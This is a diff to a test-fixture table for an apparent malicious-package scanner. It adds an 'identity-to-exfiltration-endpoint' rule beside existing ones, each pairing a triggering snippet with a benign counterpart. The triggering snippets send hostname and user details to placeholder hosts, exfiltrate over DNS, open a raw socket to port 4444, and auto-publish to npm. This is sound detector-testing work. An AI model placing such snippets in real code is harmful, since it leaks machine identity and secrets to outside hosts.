@@ -36,6 +36,7 @@ const RULES: Array<[string, string, string]> = [
   ['host-fingerprint', `const os = require('os'); const https = require('https'); https.get('https://x.example.invalid/?' + os.hostname() + os.userInfo().username + os.homedir());`, `const os = require('os'); const https = require('https'); https.get('https://x.example.invalid/bin-' + os.platform() + '-' + os.arch());`],
   ['dns-exfiltration', `const dns = require('dns'); dns.lookup(\`\${Buffer.from(require('os').hostname()).toString('hex')}.x.example.invalid\`, () => {});`, `const dns = require('dns'); dns.lookup('registry.npmjs.org', () => {});`],
   ['raw-socket', `const net = require('net'); const s = new net.Socket(); s.connect(4444, '203.0.113.7');`, `const net = require('net'); const s = new net.Socket(); s.connect(6379, 'localhost');`],
+  ['identity-to-exfiltration-endpoint', `const os = require('os'); fetch('https://webhook.site/x?h=' + os.hostname());`, `const os = require('os'); fetch('https://api.example.invalid/status?h=' + os.hostname());`],
   ['npm-publish', `require('child_process').execSync('npm publish --access public');`, `console.log('run npm publish when you are ready');`],
   ['ci-workflow-write', `require('fs').writeFileSync('.github/workflows/ci.yml', 'on: push');`, `require('fs').writeFileSync('.github/CODEOWNERS', '* @me');`],
   ['module-compile', `const m = new module.constructor(); m._compile('', '');`, `const m = new Map();`],
